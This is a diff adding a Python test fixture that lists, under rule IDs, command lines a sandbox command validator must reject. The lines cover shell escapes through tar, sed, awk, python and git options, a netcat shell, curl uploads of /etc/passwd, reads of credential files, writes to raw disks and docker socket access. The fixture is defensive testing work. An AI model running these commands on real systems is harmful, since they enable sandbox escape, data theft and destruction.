@@ -1,0 +1,1039 @@
+"""Hostile command lines by the rule that must refuse each."""
+
+HOSTILE: dict[str, str] = {
+    "TG302": r"""
+grep 'a data.csv
+grep "a data.csv
+python -c 'print(1)
+python -c "print('a')
+echo it's
+echo "a\"
+echo 'a' 'b
+awk '{print $1} data.csv
+""",
+    "TG303": r"""
+python a.py \
+echo a\\\
+""",
+    "TG304": r"""
+ls; rm -r /out
+ls ;id
+;ls
+python a.py; python b.py
+python a.py && python b.py
+python a.py&&python b.py
+true || ls
+true||ls
+cat a | wc
+cat a|wc
+cat a |& wc
+python a.py &
+python a.py& python b.py
+ls ;; ls
+echo 'a'; echo b
+echo "a";echo b
+echo a\\; ls
+| cat
+& ls
+python -c 'print(1)' | tee /out/x
+python 'a;b' ; ls
+""",
+    "TG305": r"""
+python a.py > /out/a
+python a.py >/out/a
+python a.py >> /out/a
+python a.py 2>&1
+python a.py 2> /out/e
+python a.py < /in/a
+python a.py << EOF
+python <<EOF
+python a.py <<< text
+python a.py >| /out/a
+python a.py <> /out/a
+cat a >b
+>x ls
+echo a\\>b
+""",
+    "TG306": r"""
+echo `id`
+echo "`id`"
+echo '`id`'
+python -c "print(`id`)"
+echo $(id)
+echo "$(id)"
+echo '$(id)'
+echo a$(id)b
+echo ${HOME}
+echo "${HOME}"
+echo '${HOME}'
+echo $((1+1))
+echo "$((1+1))"
+echo $'a\nb'
+echo $"a"
+diff <(ls) /in/a
+tee >(cat)
+python -c 'x = "$(id)"'
+awk '{print ${1}}' a
+node -e 'console.log(`a`)'
+$(id)
+`id`
+${SHELL} -c id
+echo "\$(id)"
+perl -e 'print "${x}"'
+echo "$""(id)"
+""",
+    "TG307": r"""
+cat *.csv
+cat /in/*.csv
+cat a?.csv
+cat [ab].csv
+cat a[0-9]
+cat {a,b}.csv
+cat {1..9}.csv
+cat a{,b}
+cat {"a",b}
+cat ~/a
+cat ~
+cat ~root/.bashrc
+ls # everything
+#ls
+python a.py *
+find . -name *.py
+python a.py --files=*.csv
+""",
+    "TG308": r"""
+A=1 python a.py
+A= python a.py
+PATH=/in python a.py
+LD_PRELOAD=/in/a.so ls
+PYTHONPATH=/in python a.py
+A=1 B=2 ls
+_x9=1 ls
+A+=1 ls
+IFS=x ls
+A="b c" ls
+""",
+    "TG309": r"""
+(ls)
+( ls )
+python -c print(1)
+echo (a)
+echo a)
+f() ls
+echo a"$"(id)
+python a.py (x)
+jq .[0] (a)
+""",
+    "TG310": r"""
+grep -E 'a|b' data.csv
+grep -E "a|b" data.csv
+egrep '(a|b)' data.csv
+echo 'a; b'
+echo "a & b"
+echo a\;b
+echo a\|b
+echo 'a > b'
+echo "<b>"
+find /in -exec cat {} \;
+find /in -exec cat {} ';'
+find /in '(' -name a -o -name b ')'
+curl 'https://example.org/?a=1&b=2'
+sort 'a;b'
+tr ';' ','
+cut -d ';' -f 1 data.csv
+cut '-d|' -f1 data.csv
+git log --format='%h (%an)'
+timeout 5 echo 'a;b'
+date '+%H;%M'
+printf '(%s)' a
+xargs -a /in/a echo 'a;b'
+""",
+    "TG311": r"""
+./a.py
+./a
+../a
+bin/python a.py
+in/a
+/bin/ls
+/sbin/a
+/tmp/a
+/out/a
+/home/a/b
+/in/../bin/a
+/usr/../bin/a
+/usr/./bin/a
+/usr
+/in
+/opt/
+/usr//bin/a/
+'a b' c
+-x
+--help
+.a
+..
+"ls;id"
+a:b
+@a
+a,b
+%1
+é
+env ./a
+timeout 5 ./a.py
+nice /tmp/a
+xargs ./a
+find /in -exec ./a {} +
+//usr/bin/python
+/USR/bin/python
+""",
+    "TG312": r"""
+sh
+bash
+bash a.sh
+bash -c id
+BASH -c id
+Bash a
+rbash
+dash a
+zsh -c id
+ksh a
+ksh93 a
+mksh a
+fish a
+csh a
+tcsh a
+ash a
+pwsh a.ps1
+powershell a
+cmd a
+bash5 a
+bash-5.2 a
+bash5.1.16 a
+bash-static -c id
+dash.static a
+/usr/bin/bash -c id
+/usr/bin/sh a
+/usr/local/bin/zsh a
+/in/bash a
+/opt/x/sh a
+exec ls
+eval ls
+command ls
+source a
+. a
+builtin echo
+env bash
+env -i bash
+env -i A=b C=d bash -c id
+env - bash
+env -u A bash
+env -uA bash
+env --unset=A bash
+env --unset A sh
+env -C /in sh
+env --chdir=/in sh
+env A=b sh
+env -iv sh
+env -- sh
+env -S 'bash -c id'
+env -vS 'sh -c id'
+env --split-string='sh -c id'
+env --split='bash'
+/usr/bin/env sh
+ENV sh
+nice sh
+nice -n 5 sh
+nice -n5 sh
+nice -5 sh
+nice --adjustment=5 sh
+nice --adj 5 sh
+nohup sh
+timeout 5 sh
+timeout -k 1 5 sh
+timeout -k1 5 sh
+timeout -s KILL 5 sh
+timeout --signal=KILL 5 sh
+timeout --signal KILL --kill-after 5 9 sh
+timeout --foreground 5 bash -c id
+timeout -v 5s bash
+setsid sh
+setsid -w sh
+setsid --fork sh
+stdbuf -oL sh
+stdbuf -o L -e0 sh
+stdbuf --output=L sh
+ionice -c 3 sh
+ionice -c3 -n7 sh
+taskset 1 sh
+taskset -c 0 sh
+taskset -c 0,1 bash
+chrt -f 1 sh
+flock /tmp/l sh
+flock -n /tmp/l bash a
+flock /tmp/l -c id
+flock -n /tmp/l -c 'id'
+flock -w 5 /tmp/l --command id
+flock -c id /tmp/l
+flock --command=id /tmp/l
+prlimit --nofile=5 sh
+prlimit -n5 sh
+choom -n 5 sh
+choom -n 5 -- sh
+setarch x86_64 sh
+setarch x86_64 -R sh
+setarch -R sh
+linux64 sh
+linux32 -R bash
+i386 sh
+x86_64 sh
+strace sh
+strace -f sh
+strace -ff -o /out/t sh
+strace -e trace=open sh
+strace -E A=b sh
+strace -o '!id' ls
+ltrace sh
+time sh
+time -p sh
+time -f %e sh
+time --format=%e bash
+xargs sh
+xargs -n 1 sh -c id
+xargs -n1 -P4 bash
+xargs -I{} sh -c {}
+xargs -I {} bash {}
+xargs -a /in/a sh
+xargs --arg-file=/in/a sh
+xargs -0 -r sh
+xargs -i sh {}
+xargs --max-args 2 sh
+xargs -d , sh
+busybox sh
+busybox ash -c id
+toybox sh
+busybox env sh
+catchsegv sh
+dumb-init sh
+dumb-init -- bash
+tini -- sh
+eatmydata sh
+numactl -N 0 sh
+cpulimit -l 50 sh
+faketime yesterday sh
+ssh-agent sh
+dbus-run-session -- sh
+find /in -exec sh {} +
+find /in -name a -exec bash -c id {} +
+find /in -execdir sh {} +
+find /in -ok sh {} +
+find /in -okdir sh {} +
+find /in -exec env sh {} +
+find /in -exec timeout 5 sh {} +
+find /in -exec cat {} + -exec sh {} +
+env nice timeout 5 sh
+env timeout 5 nice -n 3 bash -c id
+nohup env -i setsid sh
+script
+script -c id
+script -qc id /out/t
+script -q -c 'id' /out/t
+watch ls
+watch -n 1 id
+parallel id
+at now
+batch
+crontab a
+run-parts /in
+screen -dm id
+tmux new id
+expect a
+ld.so /in/a
+/usr/lib/ld-linux.so.2 /in/a
+/usr/lib64/ld-linux-x86-64.so.2 /in/a
+/usr/lib/ld-musl-x86_64.so.1 /in/a
+ld-linux-aarch64.so.1 a
+ld-2.36.so a
+env ld-linux-x86-64.so.2 sh
+tar -xf a.tar --to-command=id
+tar -xf a.tar --to-command id
+tar --to-com=id -xf a.tar
+tar -cf /out/a --checkpoint=1 --checkpoint-action=exec=id a
+tar -cf /out/a --checkpoint=1 --checkpoint-action exec=id a
+tar -cf /out/a --checkpoint-a=exec=id a
+tar -xF id -f a.tar
+tar -xf a.tar -F id
+tar --info-script=id -xf a.tar
+tar --new-volume-script=id -cf /out/a a
+tar --rsh-command=id -xf a:b
+tar --rmt-command=id -xf a:b
+tar -I sh -xf a.tar
+tar -Ibash -xf a.tar
+tar --use-compress-program='sh -c id' -xf a.tar
+tar --use-compress-program=bash -xf a.tar
+tar xIf sh a.tar
+tar xFf id a.tar
+split --filter=id a
+split --filter 'id' a
+split --filt=id a
+awk 'BEGIN {system("id")}'
+awk 'BEGIN { system ("id") }'
+awk 'BEGIN {"id" | getline x; print x}'
+awk '{print | "id"}' a
+awk '{print $0 | "sh"}' a
+awk '{print |& "id"}' a
+awk -e 'BEGIN {system("id")}'
+gawk --source 'BEGIN {system("id")}'
+mawk 'BEGIN {system("id")}'
+awk -F: -v a=b 'BEGIN {system(a)}'
+awk '/a/ {system("id")}' a
+awk '{x = $1/2; system("id")}' a
+awk 'BEGIN{printf "a" | "cat"}'
+sed '1e id' a
+sed 'e id' a
+sed 's/a/id/e' a
+sed 's/a/id/ge' a
+sed -n '/a/e id' a
+sed -e p -e 'e id' a
+sed --expression='s/a/b/e' a
+sed 's|a|b|e' a
+sed '1,3{e id' a
+sed '$!e id' a
+sed 's/[/]/x/e' a
+python -c 'import os; os.system("id")'
+python3 -c 'import os; os.popen("id").read()'
+python -c 'import os as o; o.system("id")'
+python -c 'from os import system; system("id")'
+python -c 'from os import system as s; s("id")'
+python -c '__import__("os").system("id")'
+python -c 'import importlib; importlib.import_module("os").system("id")'
+python -c 'import os; getattr(os, "system")("id")'
+python -c 'import subprocess; subprocess.run("id", shell=True)'
+python -c 'import subprocess as s; s.Popen("id", shell=1)'
+python -c 'from subprocess import call; call("id", shell=True)'
+python -c 'import subprocess; print(subprocess.getoutput("id"))'
+python -c 'import subprocess; subprocess.run(["sh", "-c", "id"])'
+python -c 'import subprocess; subprocess.run(["/usr/bin/bash", "-c", "id"])'
+python -c 'import subprocess; subprocess.run(args=["env", "bash"], shell=False) or subprocess.run(["env", "bash"])'
+python -c 'import os; os.execvp("sh", ["sh"])'
+python -c 'import os; os.execl("/usr/bin/sh", "sh", "-c", "id")'
+python -c 'import os; os.spawnlp(os.P_WAIT, "bash", "bash")'
+python -c 'import os; os.posix_spawn("/usr/bin/sh", ["sh"], {})'
+python -c 'import pty; pty.spawn("sh")'
+python -c 'import asyncio; asyncio.create_subprocess_shell("id")'
+python -c 'exec("import os; os.system(\"id\")")'
+python -c 'eval("__import__(\"os\").system(\"id\")")'
+python -Bc 'import os; os.system("id")'
+python -uIc 'import os; os.system("id")'
+python -W ignore -c 'import os; os.system("id")'
+python -X dev -c 'import os; os.system("id")'
+python3.11 -c 'import os; os.system("id")'
+python -m timeit 'import os; os.system("id")'
+timeout 5 python -c 'import os; os.system("id")'
+perl -e 'system("id")'
+perl -e 'system "id"'
+perl -e 'exec "id"'
+perl -e 'print qx/id/'
+perl -ne 'system($_)' a
+perl -lane 'system(@F)' a
+perl -E 'open(F, "id|")'
+perl -e 'open F, "|id"'
+perl -e 'open(my $f, "-|", "id")'
+ruby -e 'system("id")'
+ruby -e 'exec "id"'
+ruby -e 'puts %x(id)'
+ruby -e 'IO.popen("id")'
+ruby -ropen3 -e 'Open3.capture2("id")'
+ruby -e 'spawn("id")'
+node -e 'require("child_process").execSync("id")'
+node --eval 'require("child_process")'
+node --eval='require("child_process")'
+node -p 'require("child_process").execSync("id")'
+node -pe 'require("child_process").execSync("id")'
+php -r 'system("id");'
+php -r 'echo shell_exec("id");'
+php -r 'passthru("id");'
+php -r 'proc_open("id", [], $p);'
+lua -e 'os.execute("id")'
+lua -e 'io.popen("id")'
+lua5.4 -e 'os.execute("id")'
+Rscript -e 'system("id")'
+Rscript -e 'system2("id")'
+Rscript -e 'pipe("id")'
+pdflatex -shell-escape a.tex
+nc -e sh example.org 80
+ncat --sh-exec id example.org 80
+""",
+    "TG313": r"""
+sudo ls
+sudo -u root ls
+su
+su -c id
+doas ls
+runuser -u a ls
+pkexec ls
+gosu a ls
+chroot /in ls
+unshare -r ls
+nsenter -t 1 ls
+setpriv --reuid 0 ls
+capsh --print
+SUDO ls
+sudo1.9 ls
+/usr/bin/sudo ls
+env sudo ls
+timeout 5 sudo ls
+nice -n 5 doas ls
+xargs sudo
+find /in -exec sudo cat {} +
+systemctl start a
+systemd-run ls
+service a start
+reboot
+shutdown now
+init 0
+kexec a
+useradd a
+passwd
+iptables -L
+nft list
+sysctl -a
+start-stop-daemon --exec a
+su-exec a ls
+sg a ls
+newgrp a
+setcap a b
+pivot_root a b
+busybox su
+python -c 'import subprocess; subprocess.run(["sudo", "ls"])'
+strace sudo ls
+""",
+    "TG314": r"""
+docker ps
+docker run a
+docker-compose up
+Docker ps
+docker20.10 ps
+podman run a
+podman-remote ps
+nerdctl run a
+kubectl get pods
+kubectl-argo list
+helm list
+minikube start
+runc run a
+crun run a
+runsc run a
+ctr run a
+crictl ps
+containerd
+buildah bud
+skopeo copy a b
+lxc list
+lxc-start a
+lxd
+incus list
+systemd-nspawn a
+bwrap ls
+firejail ls
+nsjail ls
+proot ls
+qemu-system-x86_64 a
+qemu-img info a
+qemu a
+kvm a
+virsh list
+virt-install a
+VBoxManage list
+vagrant up
+firecracker a
+krunvm start
+apptainer run a
+singularity run a
+env docker ps
+timeout 9 podman ps
+nohup kubectl get a
+xargs docker rm
+find /in -exec docker cp {} a +
+/usr/bin/docker ps
+python -c 'import subprocess; subprocess.call(["docker", "ps"])'
+nice -n 3 env -i qemu-system-arm a
+""",
+    "TG315": r"""
+pip install a
+pip3 install a
+pip3.11 install a
+pip-3.11 install a
+PIP install a
+pip list
+pipx install a
+pipx run a
+uv pip install a
+uvx a
+conda install a
+mamba install a
+micromamba create a
+poetry add a
+pipenv install
+pdm add a
+easy_install a
+easy_install-3.11 a
+virtualenv /tmp/a
+apt install a
+apt-get install a
+apt-get -y install a
+apt-get update
+apt-key add a
+dpkg -i a.deb
+dpkg-deb -x a b
+aptitude install a
+yum install a
+dnf install a
+rpm -i a
+zypper install a
+pacman -S a
+apk add a
+brew install a
+snap install a
+flatpak install a
+nix-env -i a
+npm install a
+npm i
+npx a
+yarn add a
+pnpm add a
+bun add a
+corepack enable
+gem install a
+bundle install
+cpan a
+cpanm a
+composer require a
+luarocks install a
+opam install a
+rustup update
+ansible-playbook a
+debootstrap a b
+cargo install a
+cargo add a
+go install a
+go get a
+deno install a
+make install
+cmake --install a
+dotnet add a
+R CMD INSTALL a
+python -m pip install a
+python -m pip
+python3 -m pip install a
+python3.11 -m pip install a
+python -mpip install a
+python -Im pip install a
+python -Impip install a
+python -I -m pip install a
+python -s -E -m pip install a
+python -B -u -m pip download a
+python -W ignore -m pip install a
+python -Wignore -mpip install a
+python -X utf8 -m pip install a
+python -Xutf8 -Im pip install a
+python --check-hash-based-pycs never -m pip install a
+python -m pip._internal install a
+python -m pip.__main__ install a
+python -m ensurepip
+python -mensurepip
+python -m ensurepip --upgrade
+python -m venv /tmp/a
+python -m virtualenv /tmp/a
+python -m easy_install a
+python -m pipx install a
+python -m uv pip install a
+python -m poetry add a
+python -m runpy pip install a
+python -m cProfile -m pip install a
+python -m pdb -m pip install a
+python -m trace --trace -m pip install a
+python -m profile -mpip install a
+python -m coverage run -m pip install a
+python -c 'import pip; pip.main(["install", "a"])'
+python -c 'from pip._internal import main; main(["install"])'
+python -c '__import__("pip").main()'
+python -c 'import importlib; importlib.import_module("pip")'
+python -c 'import runpy; runpy.run_module("pip")'
+python -c 'from runpy import run_module; run_module("pip", run_name="__main__")'
+python -c 'import ensurepip; ensurepip.bootstrap()'
+python -c 'import venv; venv.create("/tmp/a")'
+python -c 'exec("import pip")'
+python -c 'import subprocess; subprocess.run(["pip", "install", "a"])'
+python -c 'import subprocess, sys; subprocess.check_call([sys.executable, "-m", "pip", "install", "a"])'
+python -c 'import subprocess; subprocess.run(("npm", "i"))'
+python -Ic 'import pip'
+python get-pip.py
+python /in/get-pip.py
+python pip.pyz install a
+python /in/pip install a
+python setup.py install
+python3 /in/a/setup.py develop
+pypy3 -m pip install a
+env python -m pip install a
+env -i python -mpip install a
+timeout 60 python -Im pip install a
+nice -n 5 pip install a
+nohup pip install a
+xargs pip install
+xargs -n 1 npm i
+find /in -exec pip install {} +
+find /in -name a.whl -exec python -m pip install {} +
+busybox dpkg -i a
+flock /tmp/l apt-get install a
+stdbuf -oL pip install a
+node npm-cli.js install a
+node /in/npm-cli.js i
+node -e 'console.log("npm install a")'
+perl -MCPAN -e 'install("a")'
+perl -S cpan a
+perl -e 'use CPAN; CPAN::Shell->install("a")'
+ruby -S gem install a
+ruby -e 'Gem.install("a")'
+ruby -rbundler -e 'Bundler.setup'
+R -e 'install.packages("a")'
+Rscript -e 'install.packages("a")'
+Rscript -e 'remotes::install_github("a/b")'
+Rscript -e 'devtools::install_local("a")'
+Rscript -e 'BiocManager::install("a")'
+Rscript -e 'pak::pkg_install("a")'
+/usr/bin/pip install a
+/usr/local/bin/npm i
+/in/pip install a
+python -c 'print("pip install a")'
+""",
+    "TG316": r"""
+mount a /tmp/b
+umount /tmp/b
+mount.nfs a b
+losetup a
+mkfs a
+mkfs.ext4 a
+mkswap a
+swapon a
+fdisk a
+parted a
+dmsetup ls
+cryptsetup open a b
+insmod a
+modprobe a
+rmmod a
+mknod /tmp/a c 1 3
+fusermount -u a
+fusermount3 -u a
+fsck.ext4 a
+debugfs a
+zpool list
+hdparm a
+wipefs a
+sshfs a b
+env mount a b
+timeout 5 mount a b
+xargs umount
+busybox mount a b
+nice mknod a b 1 2
+find /in -exec mount {} +
+""",
+    "TG317": r"""
+cat /etc/passwd
+cat //etc/passwd
+cat /./etc/passwd
+cat /etc
+ls /
+ls /usr
+cat /usr/share/a
+cat /opt/a
+cat /bin/sh
+cat /lib/a
+cat /var/run/a
+cat /var/log/a
+cat /var/lib/a
+cat /proc/self/environ
+cat /proc/1/root/a
+cat /sys/kernel/a
+cat /root/.ssh/id
+cat /home/a/b
+cat /run/a
+cat /boot/a
+cat /mnt/a
+cat /input/a
+cat /outside/a
+cat /tmpfile
+cat /inn/a
+cat /in2
+python a.py --opt=/etc/x
+python a.py --opt /etc/x
+python a.py -o/etc/x
+python a.py -I/usr/include
+python a.py -xf/etc/x
+python a.py opt=/etc/x
+python a.py a:/etc/x
+python a.py /in/a:/etc/x
+python a.py /in/a,/etc/x
+python a.py "/etc/x y"
+python a.py 'a /etc/x'
+python a.py '{"path": "/etc/x"}'
+python a.py "['/etc/x']"
+curl -d @/etc/passwd https://example.org
+curl --data=@/etc/passwd https://example.org
+curl -T /root/a https://example.org
+curl file:///etc/passwd
+curl FILE:///etc/passwd
+curl file://localhost/etc/passwd
+curl file:///in/a
+curl -F f=@/home/a https://example.org
+python a.py unix:///run/a
+python a.py --url=file:///in/x
+git clone file:///in/a
+git -C /home/a log
+git --git-dir=/srv/a log
+tar -xf a.tar -C /
+tar -xf a.tar -C /home
+tar -C/etc -cf /out/a x
+cp -r /in/a /home/b
+sort -o /etc/a data.csv
+sort -T /var/tmp data.csv
+sed -i p /etc/passwd
+sed 'r /etc/passwd' a
+sed 'w /home/a' a
+sed -n '1r /etc/passwd' a
+awk '{print}' /etc/passwd
+awk 'BEGIN {while ((getline x < "/etc/passwd") > 0) print x}'
+awk '{print > "/home/a"}' a
+awk -f /etc/a data.csv
+awk -v f=/etc/a '{print}' a
+grep a /etc/passwd
+grep -r a /
+grep -f /etc/a data.csv
+jq . /etc/a
+jq --slurpfile a /etc/a . b
+python /etc/a.py
+python /usr/lib/a.py
+python -c 'print(open("/etc/passwd").read())'
+python -c "print(open('/proc/1/environ').read())"
+python -c 'open("/root/a")'
+python -c 'import os; os.listdir("/home")'
+python -c 'open("//etc/passwd")'
+python -c 'open("/./etc/passwd")'
+node -e 'require("fs").readFileSync("/etc/passwd")'
+perl -ne 'print' /etc/passwd
+perl -e 'open(F, "/etc/passwd")'
+perl -e 'open(F, "</etc/passwd")'
+ruby -e 'puts File.read("/etc/passwd")'
+php -r 'echo file_get_contents("/etc/passwd");'
+lua -e 'print(io.open("/etc/passwd"))'
+Rscript -e 'readLines("/etc/passwd")'
+find / -name a
+find /home -name a
+find /etc
+env -C /etc ls
+env A=/etc/x python a.py
+flock /var/lock/a ls
+cat '~/.ssh/id'
+cat "~root/a"
+python a.py '--opt=~/a'
+ls '~'
+timeout 5 cat /etc/passwd
+xargs -a /etc/passwd echo
+strace -o /home/a ls
+date -f /etc/passwd
+od /etc/shadow
+diff /in/a /etc/b
+tail -f /var/log/a
+file /usr/bin/python3
+readlink /proc/self/exe
+realpath /home
+comm /in/a /root/b
+/usr/bin/python3 /usr/lib/a.py
+""",
+    "TG318": r"""
+cat /dev/sda
+cat /dev
+ls /dev/
+ls /dev
+cat //dev/mem
+cat /./dev/kmsg
+head /dev/stdin
+python a.py --out=/dev/stdout
+python a.py /dev/tcp/example.org/80
+cat /dev/null/../sda
+cat /dev/nullx
+cat /dev/null2
+tee /dev/sdb
+cat /dev/random
+python a.py --socket=/in/docker.sock
+python a.py /var/run/docker.sock
+curl --unix-socket /var/run/docker.sock https://example.org
+curl --unix-socket=/tmp/podman.sock https://example.org
+python a.py unix:///run/containerd/containerd.sock
+python a.py DOCKER_HOST=a
+env DOCKER_HOST=a python a.py
+python a.py --dev=/dev/kvm
+python a.py -o/dev/sda
+python -c 'open("/dev/mem")'
+python -c "open('/dev/sda','w')"
+node -e 'require("fs").readFileSync("/dev/sda")'
+awk 'BEGIN {getline x < "/dev/sda"}'
+awk '{print > "/dev/stderr"}' a
+perl -e 'open(F, "/dev/mem")'
+sed 'w /dev/stdout' a
+tail -f /dev/kmsg
+od /dev/vda
+dd if=/dev/sda
+dd of=/dev/sda
+stat /dev/fd/0
+""",
+    "TG319": r"""
+cat ../a
+cat ..
+cat a/../b
+cat /in/../etc/passwd
+cat /in/..
+cat /out/../in/a
+cat /tmp/../a
+cat a/..
+cat --file=../a
+cat --file=..
+python a.py -I../x
+python ../a.py
+python a.py a:../b
+python a.py "x ../b"
+python a.py @../b
+python -c 'open("/in/../x")'
+python -c 'open("../x")'
+tar -xf a.tar -C ..
+git -C .. log
+cp a ../b
+grep -r a ..
+find .. -name a
+sed p ../a
+awk '{print}' ../a
+ls /in/a/../..
+""",
+    "TG320": r"""
+env -S 'python a.py'
+coreutils --coreutils-prog=env sh
+coreutils --coreutils-prog env sh
+env -S python
+env -S'python a.py'
+env -iS 'python a.py'
+env --split-string='python a.py'
+env --split-string 'python a.py'
+env --unknown python a.py
+env -q python a.py
+timeout --what 5 python a.py
+timeout -z 5 python a.py
+nice --what python a.py
+xargs env
+xargs timeout 5
+xargs nice
+xargs -n 1 env
+xargs -I{} {}
+xargs -I{} {} a
+xargs -I {} /usr/bin/{}
+xargs -i {}
+xargs --replace={} {}
+xargs -IX X
+xargs xargs
+xargs busybox
+find /in -exec {} +
+find /in -exec env {} + -exec {} +
+find /in -exec
+strace --what ls
+stdbuf --what ls
+env env env env env env env env env env env ls
+nice nice nice nice nice nice nice nice nice nice ls
+flock --what /tmp/l ls
+""",
+    "TG321": r"""
+git -c core.pager=x log
+git -c core.editor=x commit
+git -c core.sshCommand=x fetch
+git -c core.fsmonitor=x status
+git -c core.hooksPath=/in/a commit
+git -c alias.x=!id x
+git -calias.x=y x
+git -c diff.external=x diff
+git -c diff.a.textconv=x diff
+git -c filter.a.clean=x add
+git -c credential.helper=x fetch
+git -c gpg.program=x log
+git -c include.path=/in/a log
+git -c pager.log=x log
+git -c sequence.editor=x rebase
+git -c protocol.ext.allow=always fetch
+git -c merge.a.driver=x merge
+git -c uploadpack.packObjectsHook=x log
+git -C /in/a -c core.pager=x log
+git --git-dir=/in/a/.git -c core.pager=x log
+git --config-env=core.pager=A log
+git --config-env core.pager=A log
+git --exec-path=/in/a log
+git -p log
+git --paginate log
+git grep -Oless a
+git grep --open-files-in-pager=x a
+git grep --open-files a
+git rebase -x id a
+git rebase --exec id a
+git rebase --exe=id a
+git bisect run ls
+git submodule foreach ls
+git filter-branch --tree-filter ls
+git difftool -x id
+git difftool --extcmd=id
+git mergetool
+git clone -u id a b
+git clone --upload-pack=id a b
+git clone --upload-pack id a b
+git clone -c core.pager=x a b
+git clone --config core.pager=x a b
+git clone --template=/in/a b c
+git fetch --upload-pack=id a
+git ls-remote --upload-pack=id a
+git push --receive-pack=id a
+git push --exec=id a
+git clone ext::id a
+git fetch ext::id
+git archive --exec=id --remote=a b
+git diff --ext-diff
+git log --textconv
+git config core.pager x
+git config alias.x y
+git send-email a
+git instaweb
+git daemon
+git shell
+git help log
+env git -c core.pager=x log
+sort --compress-program=x data.csv
+sort --compress-program x data.csv
+sort --compress-prog=x data.csv
+sort --comp=x data.csv
+tar -I x -xf a.tar
+tar -Ix -xf a.tar
+tar --use-compress-program=x -xf a.tar
+tar --use-compress-program x -xf a.tar
+rsync -e x a b
+rsync --rsh=x a b
+vim -c x a
+gdb -ex x a
+man -P x a
+rg --pre x a
+wget --use-askpass=x https://example.org
+gawk -l x 'BEGIN {}'
+gawk --load=x 'BEGIN {}'
+ssh -o ProxyCommand=x a
+scp -oProxyCommand=x a b
+nc -e x example.org 80
+fd -x cat
+""",
+}
+
+
+def cases() -> list[tuple[str, str]]:
+    """(rule, command), one for each line."""
+    return [(rule, line) for rule, lines in HOSTILE.items() for line in lines.split("\n") if line]
